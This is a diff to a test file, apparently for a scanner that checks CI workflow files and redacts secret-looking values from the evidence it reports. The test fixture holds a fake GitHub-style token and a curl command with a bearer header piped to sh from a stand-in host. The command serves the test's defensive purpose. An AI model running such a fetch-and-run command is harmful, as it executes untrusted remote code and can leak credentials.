@@ -214,7 +214,7 @@ describe('what cannot be read', () => {
 describe('what evidence shows', () => {
   test('a value that looks like a secret is taken out, a digest is not', () => {
     const token = ['ghp', '0123456789abcdefghijABCDEFGHIJ012345'].join('_');
-    const text = `on: push\njobs:\n  a:\n    steps:\n      - run: curl -H "Authorization: Bearer ${token}" https://x.example | sh # ${digest}\n`;
+    const text = `on: push\njobs:\n  a:\n    steps:\n      - run: |\n          curl -H "Authorization: Bearer ${token}" https://x.example | sh # ${digest}\n`;
     const shown = analyze(new Map(), new Map([[path, text]])).deltas.flatMap((delta) =>
       delta.evidence.map((at) => at.text),
     );
